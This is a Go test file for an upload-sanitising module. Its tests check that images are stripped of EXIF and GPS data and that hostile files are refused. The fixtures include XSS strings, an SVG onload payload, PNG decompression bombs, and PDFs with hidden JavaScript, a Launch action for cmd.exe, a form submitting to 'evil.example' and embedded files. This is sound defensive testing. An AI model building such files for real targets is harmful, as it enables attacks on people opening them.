package files_test

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"image"
	"image/color"
	"image/jpeg"
	"image/png"
	"strings"
	"testing"

	"github.com/pdfcpu/pdfcpu/pkg/api"
	"github.com/pdfcpu/pdfcpu/pkg/pdfcpu/model"

	"github.com/welfarex/welfarex/modules/kit/files"
)

// photo is a JPEG, red on its left half, with an EXIF part that says how the camera was held and where.
func photo(t *testing.T, w, h int, how byte) []byte {
	t.Helper()
	picture := image.NewRGBA(image.Rect(0, 0, w, h))
	for y := range h {
		for x := range w {
			picture.Set(x, y, color.RGBA{R: map[bool]uint8{true: 255}[x < w/2], A: 255})
		}
	}
	var out bytes.Buffer
	if err := jpeg.Encode(&out, picture, nil); err != nil {
		t.Fatal(err)
	}
	tiff := append([]byte("II*\x00\x08\x00\x00\x00\x01\x00\x12\x01\x03\x00\x01\x00\x00\x00"), how, 0, 0, 0, 0, 0, 0, 0)
	exif := append(append([]byte("Exif\x00\x00"), tiff...), []byte("GPSLatitude 45.1333 N")...)
	segment := append([]byte{0xff, 0xe1, 0, 0}, exif...)
	binary.BigEndian.PutUint16(segment[2:], uint16(len(exif)+2)) //nolint:gosec // some tens of bytes
	return append(append([]byte{0xff, 0xd8}, segment...), out.Bytes()[2:]...)
}

func TestPicture_KeepsPixelsAndNothingElse(t *testing.T) {
	t.Parallel()
	raw := append(photo(t, 64, 32, 1), []byte("<script>alert(1)</script>PK\x03\x04")...)
	if !bytes.Contains(raw, []byte("GPSLatitude")) {
		t.Fatal("the test's own picture says nothing of where it was taken")
	}
	kind, body, err := files.Picture(t.Context(), raw)
	if err != nil || kind != "image/jpeg" {
		t.Fatal(kind, err)
	}
	for _, secret := range []string{"GPS", "Exif", "<script", "PK\x03\x04"} {
		if bytes.Contains(body, []byte(secret)) {
			t.Errorf("%q stayed", secret)
		}
	}
}

func TestPicture_StandsUprightAndIsNotTooWide(t *testing.T) {
	t.Parallel()
	for how, red := range map[byte]image.Point{1: {2, 10}, 3: {-3, 10}, 6: {10, 2}, 8: {10, -3}} {
		_, body, err := files.Picture(t.Context(), photo(t, 64, 32, how))
		if err != nil {
			t.Fatal(err)
		}
		got, err := jpeg.Decode(bytes.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		b := got.Bounds()
		if turned := how >= 5; turned != (b.Dy() > b.Dx()) {
			t.Errorf("%d: %v", how, b)
		}
		at := func(n, size int) int { return (n + size) % size }
		if r, _, _, _ := got.At(at(red.X, b.Dx()), at(red.Y, b.Dy())).RGBA(); r < 0xc000 {
			t.Errorf("%d: the red half is elsewhere", how)
		}
	}
	_, body, err := files.Picture(t.Context(), photo(t, 3000, 1000, 1))
	if err != nil {
		t.Fatal(err)
	}
	if c, err := jpeg.DecodeConfig(bytes.NewReader(body)); err != nil || c.Width != 1280 || c.Height != 426 {
		t.Errorf("%+v, %v", c, err)
	}
}

// bomb is a PNG whose header promises far more pixels than there are.
func bomb(w, h uint32) []byte {
	var out bytes.Buffer
	out.WriteString("\x89PNG\r\n\x1a\n")
	chunk := func(kind string, body []byte) {
		_ = binary.Write(&out, binary.BigEndian, uint32(len(body))) //nolint:gosec // small
		out.WriteString(kind)
		out.Write(body)
		_ = binary.Write(&out, binary.BigEndian, crc32.ChecksumIEEE(append([]byte(kind), body...)))
	}
	header := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, w), h)
	chunk("IHDR", append(header, 8, 2, 0, 0, 0))
	var data bytes.Buffer
	z := zlib.NewWriter(&data)
	_, _ = z.Write(make([]byte, 1000))
	_ = z.Close()
	chunk("IDAT", data.Bytes())
	chunk("IEND", nil)
	return out.Bytes()
}

func TestPicture_RefusesWhatIsNone(t *testing.T) {
	t.Parallel()
	var small bytes.Buffer
	_ = png.Encode(&small, image.NewRGBA(image.Rect(0, 0, 8, 8)))
	for name, c := range map[string]struct {
		raw  []byte
		want error
	}{
		"nothing":              {nil, files.ErrMissing},
		"too many bytes":       {append([]byte("\xff\xd8\xff"), make([]byte, files.MostPictureBytes)...), files.ErrPictureHeavy},
		"a page":               {[]byte("<html><script>alert(1)</script>"), files.ErrPictureKind},
		"a drawing":            {[]byte(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`), files.ErrPictureKind},
		"a GIF":                {[]byte("GIF89a\x01\x00\x01\x00"), files.ErrPictureKind},
		"a JPEG's head alone":  {[]byte("\xff\xd8\xff\xe0<script>alert(1)</script>"), files.ErrPictureKind},
		"a GIF's script":       {append([]byte("GIF89a/*"), small.Bytes()...), files.ErrPictureKind},
		"half a picture":       {small.Bytes()[:small.Len()/2], files.ErrPictureKind},
		"huge":                 {bomb(100_000, 100_000), files.ErrPicturePixels},
		"a line of pixels":     {bomb(1, 2_000_000_000), files.ErrPicturePixels},
		"41 megapixels":        {bomb(41_000, 1_000), files.ErrPicturePixels},
		"fewer than announced": {bomb(1000, 1000), files.ErrPictureKind},
	} {
		if _, body, err := files.Picture(t.Context(), c.raw); !errors.Is(err, c.want) || body != nil {
			t.Errorf("%s: %d bytes, %v", name, len(body), err)
		}
	}
	if kind, _, err := files.Picture(t.Context(), small.Bytes()); err != nil || kind != "image/png" {
		t.Errorf("%s, %v", kind, err)
	}
}

// pdf writes a document of one page: catalog stands in its root, and the objects follow from number 4.
func pdf(catalog string, objects ...string) []byte {
	var out bytes.Buffer
	out.WriteString("%PDF-1.7\n")
	all := append([]string{
		"<</Type/Catalog/Pages 2 0 R" + catalog + ">>", "<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Resources<<>>>>",
	}, objects...)
	offsets := make([]int, len(all))
	for i, o := range all {
		offsets[i] = out.Len()
		fmt.Fprintf(&out, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	at := out.Len()
	fmt.Fprintf(&out, "xref\n0 %d\n0000000000 65535 f \n", len(all)+1)
	for _, o := range offsets {
		fmt.Fprintf(&out, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(&out, "trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n", len(all)+1, at)
	return out.Bytes()
}

func encrypted(t *testing.T, user string) []byte {
	t.Helper()
	api.DisableConfigDir()
	conf := model.NewAESConfiguration(user, "owner", 256)
	var out bytes.Buffer
	if err := api.Encrypt(bytes.NewReader(pdf("")), &out, conf); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

func TestDocument_RefusesWhatIsMoreThanPaper(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		raw  []byte
		want error
	}{
		"a plain one":                {pdf(""), nil},
		"one that opens on a page":   {pdf("/OpenAction[3 0 R/Fit]"), nil},
		"one that goes to a page":    {pdf("/OpenAction<</S/GoTo/D[3 0 R/Fit]>>"), nil},
		"nothing":                    {nil, files.ErrMissing},
		"too heavy":                  {append(pdf(""), make([]byte, files.MostDocumentBytes)...), files.ErrDocumentHeavy},
		"a page":                     {[]byte("<html>%PDF-1.7 %%EOF"), files.ErrDocumentKind},
		"something before it":        {append([]byte("PK\x03\x04"), pdf("")...), files.ErrDocumentKind},
		"something long behind it":   {append(pdf(""), []byte(strings.Repeat("MZ", 3000))...), files.ErrDocumentKind},
		"a head without a body":      {[]byte("%PDF-1.7\n%%EOF"), files.ErrDocumentKind},
		"words":                      {[]byte("%PDF-1.7\nciao\nstartxref\n9\n%%EOF"), files.ErrDocumentKind},
		"with a password":            {encrypted(t, "apriti"), files.ErrDocumentLocked},
		"with rights taken away":     {encrypted(t, ""), files.ErrDocumentLocked},
		"a script on opening":        {pdf("/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), files.ErrDocumentActive},
		"a script elsewhere":         {pdf("/OpenAction 4 0 R", "<</S/JavaScript/JS(app.alert\\(1\\))>>"), files.ErrDocumentActive},
		"a script by name":           {pdf("/Names<</JavaScript<</Names[(a) 4 0 R]>>>>", "<</S/GoTo/D[3 0 R/Fit]>>"), files.ErrDocumentActive},
		"a script in disguise":       {pdf("/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>"), files.ErrDocumentActive},
		"a script that nobody calls": {pdf("", "<</S/JavaScript/JS(app.alert\\(1\\))>>"), files.ErrDocumentActive},
		"what happens on closing":    {pdf("/AA<</WC 4 0 R>>", "<</S/GoTo/D[3 0 R/Fit]>>"), files.ErrDocumentActive},
		"a program":                  {pdf("/OpenAction 4 0 R", "<</S/Launch/F(cmd.exe)>>"), files.ErrDocumentActive},
		"a form that sends":          {pdf("", "<</S/SubmitForm/F(http://evil.example)>>"), files.ErrDocumentActive},
		"a file inside":              {pdf("/Names<</EmbeddedFiles<</Names[(a) 4 0 R]>>>>", "<</Type/Filespec/F(a)>>"), files.ErrDocumentActive},
		"a file inside, hidden":      {pdf("", "<</Type/EmbeddedFile/Length 1>>\nstream\na\nendstream"), files.ErrDocumentActive},
		"XFA":                        {pdf("/AcroForm<</Fields[]/XFA(x)>>"), files.ErrDocumentActive},
		"arrays that never end":      {pdf("/X " + strings.Repeat("[", 300) + strings.Repeat("]", 300)), files.ErrDocumentActive},
	} {
		err := files.Document(t.Context(), c.raw)
		if name == "arrays that never end" && err != nil { // refused by whoever sees it first
			continue
		}
		if !errors.Is(err, c.want) {
			t.Errorf("%s: %v", name, err)
		}
	}
}

// packed is a document whose fourth object lies compressed in a stream, as newer programs write them.
func packed(catalog, object string) []byte {
	var out, body, table bytes.Buffer
	z := zlib.NewWriter(&body)
	_, _ = z.Write([]byte("4 0 " + object))
	_ = z.Close()
	out.WriteString("%PDF-1.7\n")
	row := func(kind byte, at uint32, n uint16) {
		table.WriteByte(kind)
		_ = binary.Write(&table, binary.BigEndian, at)
		_ = binary.Write(&table, binary.BigEndian, n)
	}
	add := func(n int, text string) {
		row(1, uint32(out.Len()), 0) //nolint:gosec // small
		fmt.Fprintf(&out, "%d 0 obj\n%s\nendobj\n", n, text)
	}
	row(0, 0, 65535)
	add(1, "<</Type/Catalog/Pages 2 0 R"+catalog+">>")
	add(2, "<</Type/Pages/Kids[3 0 R]/Count 1>>")
	add(3, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Resources<<>>>>")
	row(2, 5, 0)
	add(5, fmt.Sprintf("<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream", body.Len(), body.String()))
	at := out.Len()
	row(1, uint32(at), 0) //nolint:gosec // small
	fmt.Fprintf(&out, "6 0 obj\n<</Type/XRef/Size 7/Root 1 0 R/W[1 4 2]/Length %d>>\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n", table.Len(), table.String(), at)
	return out.Bytes()
}

func TestDocument_LooksIntoCompressedObjects(t *testing.T) {
	t.Parallel()
	if err := files.Document(t.Context(), packed("/OpenAction 4 0 R", "<</S/GoTo/D[3 0 R/Fit]>>")); err != nil {
		t.Errorf("a plain one: %v", err)
	}
	raw := packed("/OpenAction 4 0 R", "<</S/JavaScript/JS(app.alert\\(1\\))>>")
	if bytes.Contains(raw, []byte("JavaScript")) {
		t.Fatal("the script is not hidden")
	}
	if err := files.Document(t.Context(), raw); !errors.Is(err, files.ErrDocumentActive) {
		t.Errorf("a script: %v", err)
	}
}
